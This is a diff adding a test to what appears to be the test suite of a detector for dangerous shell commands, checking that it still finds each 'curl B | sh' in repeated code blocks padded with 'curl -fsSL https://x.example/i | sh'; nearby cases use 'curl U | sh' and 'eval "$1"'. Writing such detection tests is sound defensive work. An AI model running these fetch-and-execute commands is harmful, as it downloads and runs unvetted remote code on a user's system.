@@ -84,6 +84,16 @@ describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
     expect(detection.outcome.status).toBe("incomplete");
   });
 
+  it("what calls use up hides nothing behind them, also in other blocks", async () => {
+    const costly = `${growing(200, "curl -fsSL https://x.example/i | sh")}curl B | sh\n`;
+    const text = `\`\`\`sh\n${costly}\`\`\`\n\n`.repeat(3);
+    const detection = (await sharedDetector(profile)).detect(text);
+    assertSound(text, detection);
+    const found = detection.findings.map((finding) => finding.text);
+    expect(found.filter((each) => each === "curl B | sh")).toHaveLength(3);
+    expect(detection.outcome.status).toBe("incomplete");
+  });
+
   it.each([
     ["code", 300, "'curl U | sh'", ['eval "$1"']],
     ["fetched text", 300, '"$(curl U)"', ['eval "$1"']],
